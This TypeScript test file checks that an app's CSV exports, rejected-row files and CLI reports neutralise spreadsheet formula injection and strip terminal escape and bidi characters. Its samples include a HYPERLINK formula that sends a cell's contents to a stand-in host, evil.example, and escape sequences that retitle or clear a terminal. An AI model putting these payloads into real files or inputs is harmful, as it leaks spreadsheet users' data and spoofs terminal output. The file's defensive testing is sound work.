/**
 * Door: what people open with a spreadsheet or see on a terminal. A cell, or a header, that begins with what OWASP's "CSV
 * Injection" lists would be run as a formula; a control character in a name moves a terminal's cursor or turns a line around.
 */
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import type { ApiClient } from "#harness/api-client.ts";
import { openPostgresApp, type PostgresApp } from "#harness/app.ts";
import { makeWorkplace, type Workplace } from "#src/cli/test-workplace.ts";

const evil = `HYPERLINK("http://evil.example?"&A2,"a")`;
/** Each sign of the list, half width and full, before a call; and blanks and a quotation mark before one. */
const formulas = ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", '"='].map((sign) => sign + evil);
/** In a cell also these begin one. */
const cells = [...formulas, `\t=${evil}`, `\r=${evil}`, `\n=${evil}`];
const begins = /^[\s"]*[=+\-@＝＋－＠]|^[\t\r\n]/u;
const harmless = /^[+-]?[\d ().,-]*$/;

let app: PostgresApp;
beforeAll(async () => {
  app = await openPostgresApp();
});
afterAll(() => app.close());

/** The cells of a file as a spreadsheet sees them, and those among them that it would run. */
function opened(csv: string): { cells: string[]; run: string[] } {
  const all = parse(csv, { bom: true, relax_column_count: true }).flat();
  return { cells: all, run: all.filter((cell) => begins.test(cell) && !harmless.test(cell)) };
}

const tables = (rows: readonly (readonly string[])[]) =>
  stringify(rows as string[][], { quoted: true, record_delimiter: "\n" });

async function importFile(client: ApiClient, file: string, columns: Record<string, string>, campaignId?: string) {
  const { id } = await client.get("createImport", { file });
  const of = { params: { id } };
  const until = async (status: string) => {
    for (let tries = 0; tries < 500; tries++) {
      const found = await client.get("getImport", of);
      if (found.status === status) return found;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    throw new Error(`The import did not become ${status}.`);
  };
  await client.get("mapImport", { ...of, body: { columns, country: "US" } });
  await until("preview");
  const rejected = await client.get("exportRejectedRows", of);
  await client.get("confirmImport", { ...of, body: campaignId === undefined ? {} : { campaignId } });
  await until("done");
  return { id, rejected: rejected as string };
}

describe("a formula is run from no file", () => {
  test("of contacts, in cells and headers, and the file is taken back as it was", async () => {
    const from = await app.as("owner", await app.addOrganisation("From"));
    const to = await app.as("owner", await app.addOrganisation("To"));
    const trimmed = formulas.map((formula) => formula.trim());
    const values = [...trimmed, `'${trimmed[0]!}`, "'0170", '="0170"', "'t Hooft"];
    const names = formulas.map((_, at) => `${trimmed[at]!.slice(0, 20)}${at}`);
    for (const [at, value] of values.entries()) {
      const attributes = Object.fromEntries(names.map((name) => [name, value]));
      const phone = `+1415555${String(1_000 + at)}`;
      await from.get("createContact", {
        body: { phone, firstName: value, company: value, externalId: value, attributes },
      });
    }
    const csv = (await from.get("exportContacts")) as string;
    const seen = opened(csv);
    expect(seen.run).toEqual([]);
    expect(seen.cells.filter((cell) => cell.includes("HYPERLINK")).length).toBeGreaterThan(100);

    const { suggestions } = await columnsOf(to, csv);
    await importFile(to, csv, suggestions);
    const [before, after] = [await everybody(from), await everybody(to)];
    expect(after).toEqual(before);
  });

  test("of a campaign, with the file's own columns, and of rejected rows", async () => {
    const client = await app.as("owner", await app.addOrganisation("Campaign"));
    const { id } = await client.get("createCampaign", { body: { name: "=1+1" } });
    const rows = cells.flatMap((cell, at) => [
      [`+1415556${String(1_000 + at)}`, cell, cell],
      ["12", cell, cell],
    ]);
    for (const [at, header] of cells.entries()) {
      const file = tables([["phone", header, "note"], ...rows.slice(at * 2, at * 2 + 2)]);
      const { rejected } = await importFile(client, file, { phone: "phone" }, id);
      expect(opened(rejected).run).toEqual([]);
      expect(rejected).toContain("HYPERLINK");
    }
    const csv = (await client.get("exportCampaign", { params: { id } })) as string;
    expect(opened(csv).run).toEqual([]);
    expect(opened(csv).cells.filter((cell) => cell.includes("HYPERLINK")).length).toBeGreaterThan(2 * cells.length);
  });

  test("of the do-not-call list, and of its rows that were refused", async () => {
    const client = await app.as("owner", await app.addOrganisation("Do not call"));
    for (const [at, note] of cells.entries()) {
      await client.get("addDoNotCall", { body: { phone: `+1415557${String(1_000 + at)}`, note } });
      const file = tables([["phone", note], ["12", note]]); // prettier-ignore
      const { id } = await client.get("importDoNotCall", { file, query: { country: "US" } });
      const refused = (await client.get("exportRefusedNumbers", { params: { id } })) as string;
      expect(opened(refused).run).toEqual([]);
      expect(refused).toContain("HYPERLINK");
    }
    const csv = (await client.get("exportDoNotCall")) as string;
    expect(opened(csv).run).toEqual([]);
    expect(csv).toContain("HYPERLINK");
  });
});

async function columnsOf(client: ApiClient, file: string): Promise<{ suggestions: Record<string, string> }> {
  const { columns } = await client.get("createImport", { file });
  return {
    suggestions: Object.fromEntries(
      (columns as Array<{ name: string; suggested: string | null }>).map(({ name, suggested }) => [
        name,
        suggested ?? `attribute:${name}`,
      ]),
    ),
  };
}

async function everybody(client: ApiClient): Promise<unknown[]> {
  const { items } = await client.get("listContacts", { query: { sort: "phone", limit: 200 } });
  return (items as Array<Record<string, unknown>>).map(({ phone, firstName, company, externalId, attributes }) => ({
    phone,
    firstName,
    company,
    externalId,
    attributes,
  }));
}

describe("control characters and turned lines", () => {
  const bad = "\u001b]0;owned\u0007\u001b[2J\u009b8m\u202ecba\u2066\r\nLine";
  const plain = "]0;owned[2J8mcba Line";
  // oxlint-disable-next-line no-control-regex -- these are looked for
  const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  test("are taken out of every name that comes in", async () => {
    const client = await app.as("owner", await app.addOrganisation("Names"));
    const contact = {
      phone: "+14155558001",
      firstName: bad,
      lastName: bad,
      company: bad,
      externalId: bad,
      tags: [bad],
    };
    expect(
      await client.get("createContact", { body: { ...contact, attributes: { [bad]: "one\ntwo\u001b[2J" } } }),
    ).toMatchObject({
      firstName: plain,
      lastName: plain,
      company: plain,
      externalId: plain,
      tags: [plain],
      attributes: { [plain]: "one\ntwo[2J" },
    });
    expect(await client.get("createCampaign", { body: { name: bad } })).toMatchObject({ name: plain });
    expect(await client.get("createLine", { body: { name: bad, kind: "simulator" } })).toMatchObject({ name: plain });
    expect(await client.get("createAiEmployee", { body: { name: bad, kind: "conversation" } })).toMatchObject({
      name: plain,
    });
    expect(await client.get("createApiKey", { body: { name: bad, role: "viewer" } })).toMatchObject({ name: plain });
    expect(await client.get("createFilter", { body: { name: bad, filter: { all: [] } } })).toMatchObject({
      name: plain,
    });
    expect(await client.get("updateOrganisation", { body: { name: bad } })).toMatchObject({ name: plain });
    expect(await client.refusal("createCampaign", { body: { name: "\u001b\u202e" } })).toBe("400 malformed");
  });

  test("are taken out of a file's name, its headers and the names in it", async () => {
    const client = await app.as("owner", await app.addOrganisation("Files"));
    const body = new FormData();
    const text = `phone,first,\u001b[2JPlan\u202e\n+14155558002,\u001b[31mAda\u202e,"a\u001b[2J\nb"\n`;
    body.set("file", new Blob([text]), "a\u001b[2J\u202ecsv.exe");
    const uploaded = (await (await client.raw("/api/v1/imports", { method: "POST", body })).json()) as {
      fileName: string;
      columns: Array<{ name: string }>;
    };
    expect(uploaded.fileName).toBe("a[2Jcsv.exe");
    expect(uploaded.columns.map(({ name }) => name)).toEqual(["phone", "first", "[2JPlan"]);
    await importFile(client, text, { phone: "phone", first: "first_name", "[2JPlan": "attribute:plan" });
    expect(await everybody(client)).toMatchObject([{ firstName: "[31mAda", attributes: { plan: "a[2J\nb" } }]);
  });

  describe("that a database has from before", () => {
    let place: Workplace;
    beforeAll(() => {
      place = makeWorkplace({ DATABASE_URL: app.config.databaseUrl!, CAMPANILE_SECRET: app.config.secret! });
    });
    afterAll(() => place?.remove());

    test("are not written on a terminal, and are escapes in JSON", async () => {
      await sql`update line set name = ${bad} where organisation_id = ${app.organisationId}`.execute(app.database.sql);
      await sql`update ai_employee set name = ${bad} where organisation_id = ${app.organisationId}`.execute(
        app.database.sql,
      );
      writeFileSync(path.join(place.folder, "people.csv"), `phone,＝1+1\n+14155550100,＝${evil}\n`);
      const { code, stdout, stderr } = await place.run("run", "people.csv", "--speed", "max", "--json");
      expect(`${stdout}${stderr}`).not.toMatch(acting);
      expect(stderr).toContain("cba");
      expect(code).toBe(0);
      expect((JSON.parse(stdout) as { line: { name: string } }).line.name).toBe(bad);
      const found = await place.run("run", "people.csv", "--line", "no\u001b[2J such \u202eline");
      expect(found.code).toBe(2);
      expect(found.stderr).not.toMatch(acting);
    }, 60_000);

    test("and a report of `run` holds no formula", async () => {
      await place.run("run", "people.csv", "--speed", "max", "--report", "report.csv");
      const csv = readFileSync(path.join(place.folder, "report.csv"), "utf8");
      expect(opened(csv).run).toEqual([]);
      expect(csv).toContain("'＝1+1");
      expect(csv).toContain("'＝HYPERLINK");
    }, 60_000);
  });
});
